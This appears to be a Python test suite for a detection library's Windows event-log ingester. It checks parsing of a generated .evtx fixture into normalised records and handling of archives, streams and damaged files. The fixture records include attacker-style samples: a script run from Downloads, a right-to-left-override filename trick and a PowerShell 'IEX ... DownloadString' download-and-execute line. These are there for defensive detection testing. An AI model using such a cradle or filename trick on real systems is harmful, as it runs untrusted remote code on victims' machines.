"""Windows .evtx files: a real (generated) file read through the evtx package."""

import gzip
import io
import json
import struct
import zipfile
import zlib
from pathlib import Path

from rules.ingest import read_bytes, read_path, read_stream, size_hint, sniff_path
from rules.ingest.evtx import evtx_json_to_win_event
from rules.ingest.normalise import normalise_windows

FIXTURES = Path(__file__).parent / "fixtures" / "ingest"
SAMPLE = FIXTURES / "sample.evtx"  # written by fixtures/ingest/make_evtx.py
HOST = {
    "os": {"type": "windows", "family": "windows"},
    "name": "WS01.corp.example",
    "id": "ws01.corp.example",
}


def test_sample_is_recognised_by_magic_whatever_its_name(tmp_path):
    renamed = tmp_path / "events.ndjson"
    renamed.write_bytes(SAMPLE.read_bytes())
    assert sniff_path(renamed) == "evtx"
    assert [r.kind for r in read_path(renamed)] == ["evtx"] * 3


def test_sysmon_1_record_from_evtx():
    first = next(read_path(SAMPLE))
    assert first.ok and first.number == 1
    doc = first.event
    assert len(doc["event"].pop("id")) == 64
    assert doc == {
        "@timestamp": "2024-05-06T07:08:09.120Z",
        "event": {
            "kind": "event",
            "code": "1",
            "module": "sysmon",
            "dataset": "windows.sysmon_operational",
            "provider": "Microsoft-Windows-Sysmon",
            "category": ["process"],
            "type": ["start"],
            "action": "start",
        },
        "host": HOST,
        "process": {
            "pid": 6060,
            "entity_id": "{11111111-2222-3333-4444-555555555555}",
            "executable": "C:\\Windows\\System32\\wscript.exe",
            "name": "wscript.exe",
            "command_line": '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\bob\\Downloads\\invoice.js"',
            "args": ["C:\\Windows\\System32\\WScript.exe", "C:\\Users\\bob\\Downloads\\invoice.js"],
            "args_count": 2,
            "working_directory": "C:\\Users\\bob\\Downloads\\",
            "hash": {"sha256": "abcdef0123"},
            "pe": {"original_file_name": "wscript.exe", "imphash": "fedcba"},
            "parent": {
                "pid": 4242,
                "entity_id": "{11111111-2222-3333-4444-000000000001}",
                "executable": "C:\\Windows\\explorer.exe",
                "name": "explorer.exe",
                "command_line": "C:\\Windows\\Explorer.EXE",
                "args": ["C:\\Windows\\Explorer.EXE"],
                "args_count": 1,
            },
        },
        "user": {"name": "bob", "domain": "CORP", "id": "CORP\\bob"},
        "winlog": {
            "event_id": "1",
            "channel": "Microsoft-Windows-Sysmon/Operational",
            "computer_name": "WS01.corp.example",
            "provider_name": "Microsoft-Windows-Sysmon",
            "provider_guid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
            "record_id": "101",
            "version": 5,
            "process": {"pid": 2412, "thread": {"id": 3300}},
            "user": {"identifier": "S-1-5-18"},
            "event_data": {
                "RuleName": "-",
                "UtcTime": "2024-05-06 07:08:09.120",
                "ProcessGuid": "11111111-2222-3333-4444-555555555555",
                "ProcessId": "6060",
                "Image": "C:\\Windows\\System32\\wscript.exe",
                "OriginalFileName": "wscript.exe",
                "CommandLine": '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\bob\\Downloads\\invoice.js"',
                "CurrentDirectory": "C:\\Users\\bob\\Downloads\\",
                "User": "CORP\\bob",
                "Hashes": "SHA256=ABCDEF0123,IMPHASH=FEDCBA",
                "ParentProcessGuid": "11111111-2222-3333-4444-000000000001",
                "ParentProcessId": "4242",
                "ParentImage": "C:\\Windows\\explorer.exe",
                "ParentCommandLine": "C:\\Windows\\Explorer.EXE",
            },
        },
        "ecs": {"version": "9.5.0"},
    }


def test_security_4688_and_powershell_4104_records_from_evtx():
    _, security, powershell = read_path(SAMPLE)
    doc = security.event
    assert doc["@timestamp"] == "2024-05-06T07:08:10.000Z"
    assert doc["event"]["category"] == ["process"] and doc["event"]["action"] == "start"
    assert doc["process"] == {
        "pid": 0x1A2C,
        "executable": "C:\\Windows\\System32\\cmd.exe",
        "name": "cmd.exe",
        "command_line": 'cmd.exe /c "echo \u202eexe.txt & 🙂"',
        "args": ["cmd.exe", "/c", "echo \u202eexe.txt & 🙂"],
        "args_count": 3,
        "parent": {
            "pid": 6060,  # the wscript.exe of record 1
            "executable": "C:\\Windows\\System32\\wscript.exe",
            "name": "wscript.exe",
        },
    }
    assert doc["user"] == {"id": "S-1-5-21-1-2-3-1001", "name": "bob", "domain": "CORP"}
    doc = powershell.event
    assert doc["@timestamp"] == "2024-05-06T07:08:11.500Z"
    assert doc["powershell"] == {
        "file": {
            "script_block_text": "IEX (New-Object Net.WebClient).DownloadString('http://x')",
            "script_block_id": "9f3c1f0e-1111-2222-3333-444444444444",
        },
        "sequence": 1,
        "total": 1,
    }
    assert doc["user"] == {"id": "S-1-5-21-1-2-3-1001"}
    assert doc["process"] == {"pid": 7000}


def test_ids_are_stable_across_reads():
    assert [r.event["event"]["id"] for r in read_path(SAMPLE)] == [
        r.event["event"]["id"] for r in read_bytes(SAMPLE.read_bytes())
    ]


def test_evtx_inside_zip_and_gzip():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("logs/Security.evtx", SAMPLE.read_bytes())
    assert [r.source for r in read_bytes(buffer.getvalue())] == ["logs/Security.evtx"] * 3
    assert all(r.ok for r in read_bytes(gzip.compress(SAMPLE.read_bytes())))


def test_evtx_from_a_non_seekable_stream():
    class Pipe(io.RawIOBase):
        def __init__(self, data):
            self._data = io.BytesIO(data)

        def readable(self):
            return True

        def seekable(self):
            return False

        def readinto(self, buffer):
            chunk = self._data.read(len(buffer))
            buffer[: len(chunk)] = chunk
            return len(chunk)

    records = list(read_stream(io.BufferedReader(Pipe(SAMPLE.read_bytes()))))
    assert [r.ok for r in records] == [True] * 3


def test_damaged_record_is_reported_and_the_rest_is_read():
    data = bytearray(SAMPLE.read_bytes())
    second = data.find(b"**\x00\x00", 4096 + 512 + 8)
    data[second + 40 : second + 60] = b"\xff" * 20
    records = list(read_bytes(bytes(data)))
    assert [r.number for r in records] == [1, 2, 3]
    assert records[0].ok and records[2].ok
    assert records[2].event["event"]["code"] == "4104"
    assert records[1].error.startswith("damaged EVTX data:")
    assert "102" in records[1].error


def test_truncated_and_garbage_files_are_errors_not_silence():
    data = SAMPLE.read_bytes()
    truncated = list(read_bytes(data[: 4096 + 3000]))
    assert truncated[0].error == (
        "truncated EVTX file: the header announces 1 chunk(s) of 64 KiB, "
        "the file has 3000 bytes after the header"
    )
    garbage = list(read_bytes(b"ElfFile\x00" + b"\x01" * 5000))
    assert garbage[0].error == "damaged EVTX file header (checksum mismatch)"
    assert all(not r.ok for r in garbage)
    tiny = list(read_bytes(b"ElfFile\x00"))
    assert tiny[0].error == "truncated EVTX file: the file header is incomplete"
    assert all(not r.ok for r in tiny)


def test_empty_log_has_no_records_and_no_errors():
    header = bytearray(SAMPLE.read_bytes()[:4096])
    struct.pack_into("<H", header, 42, 0)  # no chunks
    struct.pack_into("<I", header, 124, zlib.crc32(header[:120]))
    assert list(read_bytes(bytes(header))) == []


def test_records_json_shapes_the_parser_also_produces():
    """Element values with attributes, unnamed <Data>, UserData and a missing TimeCreated."""
    item = {
        "event_record_id": 7,
        "timestamp": "2024-01-02T03:04:05.000006Z UTC",
        "data": json.dumps(
            {
                "Event": {
                    "System": {
                        "Provider": {"#attributes": {"Name": "Service Control Manager"}},
                        "EventID": {"#attributes": {"Qualifiers": 16384}, "#text": 7045},
                        "EventRecordID": 7,
                        "Channel": "System",
                        "Computer": "DC1",
                        "Security": None,
                    },
                    "EventData": {"Data": {"#text": ["svc", "C:\\x.exe"]}},
                    "UserData": {"Thing": {"A": 1}},
                }
            }
        ),
    }
    ev = evtx_json_to_win_event(item)
    assert (ev.event_id, ev.provider, ev.computer, ev.user_sid) == (
        7045,
        "Service Control Manager",
        "DC1",
        None,
    )
    assert ev.event_data == {"param1": "svc", "param2": "C:\\x.exe"}
    doc = normalise_windows(ev)
    assert doc["@timestamp"] == "2024-01-02T03:04:05.000006Z"
    assert doc["event"]["module"] == "windows" and doc["event"]["code"] == "7045"
    assert doc["winlog"]["user_data"] == {"Thing": {"A": 1}}
    assert doc["winlog"]["event_data"] == {"param1": "svc", "param2": "C:\\x.exe"}


def test_progress_for_an_evtx_file_adds_up():
    seen = []
    assert len(list(read_path(SAMPLE, on_progress=seen.append))) == 3
    assert sum(seen) == size_hint(SAMPLE)
